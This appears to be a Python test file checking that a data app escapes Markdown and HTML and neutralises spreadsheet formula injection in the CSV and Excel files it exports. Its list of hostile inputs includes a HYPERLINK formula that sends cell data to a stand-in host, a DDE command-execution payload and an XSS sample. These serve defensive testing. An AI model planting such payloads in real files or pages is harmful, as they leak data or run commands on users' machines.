"""Uploaded text stays inert: never a formula in a workbook or CSV the app hands out,
never a link, image or heading where Streamlit renders Markdown."""

from __future__ import annotations

import datetime as dt
import io
import re
import string
import zipfile
from pathlib import Path

import openpyxl
import pandas as pd
from builders import csv_bytes, source

from iga_data import exports, safetext
from iga_data.pipeline import analyse
from iga_data.reading import read_sources
from iga_data.settings import default_settings

ROOT = Path(__file__).resolve().parents[2]
HOSTILE_TEXTS = [
    '=HYPERLINK("http://contoh.invalid/?d="&A1,"Klik")',
    "+1+2",
    "-3+4",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "=cmd|' /C calc'!A0",
]


def test_markdown_links_images_and_headings_stay_text():
    shown = safetext.md("[x](https://contoh.invalid) ![](http://contoh.invalid/a.png) # Judul *tebal* :red[merah] $x$")
    assert "[x](" not in shown and "![](" not in shown
    # CommonMark: a backslash before ASCII punctuation shows the character itself, nothing more.
    unescaped = re.findall(r"(?<!\\)[" + re.escape("[]()!#*:$`<>_|~") + "]", shown)
    assert unescaped == []
    assert (
        re.sub(r"\\(.)", r"\1", shown) == "[x](https://contoh.invalid) ![](http://contoh.invalid/a.png) "
        "# Judul *tebal* :red[merah] $x$"
    )


def test_markdown_escape_keeps_plain_words_and_flattens_line_breaks():
    assert safetext.md("Dinas Sosial Kota Bengkulu") == "Dinas Sosial Kota Bengkulu"
    assert safetext.md("baris satu\n# dua\r\ntiga") == r"baris satu \# dua  tiga"
    assert safetext.md(None) == "" and safetext.md(72.5) == r"72\.5"
    every = string.punctuation
    assert re.sub(r"\\(.)", r"\1", safetext.md(every)) == every


def test_html_text_escapes_tags_and_quotes():
    assert safetext.html_text('<img src=x onerror="alert(1)">') == "&lt;img src=x onerror=&quot;alert(1)&quot;&gt;"


def test_csv_cells_that_a_spreadsheet_would_evaluate_get_a_quote():
    frame = pd.DataFrame({"t": HOSTILE_TEXTS + ["Dinas Sosial", "–"], "n": range(len(HOSTILE_TEXTS) + 2)})
    out = safetext.csv_frame(frame)
    assert out["t"].tolist() == ["'" + t for t in HOSTILE_TEXTS] + ["Dinas Sosial", "–"]
    assert out["n"].tolist() == frame["n"].tolist()
    assert frame["t"].iloc[0] == HOSTILE_TEXTS[0]  # the input is not changed


def _cells(data: bytes):
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    return [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]


def _no_formula(data: bytes) -> None:
    assert all(c.data_type != "f" for c in _cells(data))
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)


def test_workbook_text_is_written_as_text_never_as_a_formula():
    frame = pd.DataFrame({"Teks": HOSTILE_TEXTS + ["kendali\x01\x07", "x" * 40_000], "Angka": range(9)})
    buf = io.BytesIO()
    with pd.ExcelWriter(buf, engine="openpyxl") as writer:
        safetext.to_excel(frame, writer, "Data", startrow=1)
    data = buf.getvalue()
    _no_formula(data)
    texts = [c.value for c in _cells(data) if c.column == 1]
    assert texts[1:8] == [t.replace("\r", "\n") for t in HOSTILE_TEXTS]  # XML stores a lone CR as LF
    assert texts[8] == "kendali" and len(texts[9]) == safetext.EXCEL_CELL_MAX


def test_the_follow_up_list_keeps_hostile_unit_and_innovation_names_as_text():
    rows = [["Perangkat Daerah", "Nama Inovasi", "Skor"]] + [[t, f"Inovasi {t}", 50] for t in HOSTILE_TEXTS]
    # CSV: the text exactly as a portal would export it (openpyxl would store "=…" as a formula)
    analysis = analyse(read_sources([source("e.csv", csv_bytes(rows, delimiter=";"))]), None, default_settings())
    data = exports.follow_up_xlsx(analysis, dt.datetime(2024, 7, 10))
    _no_formula(data)
    shown = {c.value for c in _cells(data)}
    assert {t.strip() for t in HOSTILE_TEXTS} <= shown  # unit names; the reader trims, nothing else changes
    assert any("'Inovasi =HYPERLINK" in str(v) for v in shown)  # in the action: "naikkan skor 'Inovasi =…' …"


def test_every_workbook_the_app_writes_goes_through_safetext():
    """A new .xlsx writer must write through safetext (to_excel, text_cell, append); bench.py writes generated
    data only."""
    allowed = {"iga_data/safetext.py", "iga_data/bench.py"}
    offenders = []
    for path in [*ROOT.glob("iga_data/**/*.py"), *ROOT.glob("ui/*.py"), ROOT / "app.py", *ROOT.glob("pages/*.py")]:
        relative, text = path.relative_to(ROOT).as_posix(), path.read_text()
        direct = re.search(r"(?<!safetext)\.to_excel\(", text) or (
            re.search(r"\bWorkbook\(", text) and not re.search(r"safetext\.(text_cell|append)\(", text)
        )
        unsafe_writer = "ExcelWriter(" in text and "safetext.to_excel(" not in text
        if relative not in allowed and (direct or unsafe_writer):
            offenders.append(relative)
    assert offenders == []


def test_cells_and_rows_written_one_by_one_stay_text_and_keep_their_quote_prefix():
    wb = openpyxl.Workbook()
    ws = wb.active
    safetext.append(ws, ["Judul"])
    safetext.append(ws, HOSTILE_TEXTS)
    safetext.text_cell(ws, 3, 1, "=1+1")
    buf = io.BytesIO()
    wb.save(buf)
    _no_formula(buf.getvalue())
    sheet = openpyxl.load_workbook(io.BytesIO(buf.getvalue())).active
    assert sheet["A1"].value == "Judul" and sheet["A2"].value == HOSTILE_TEXTS[0] and sheet["A2"].quotePrefix
    assert sheet["A3"].value == "=1+1"
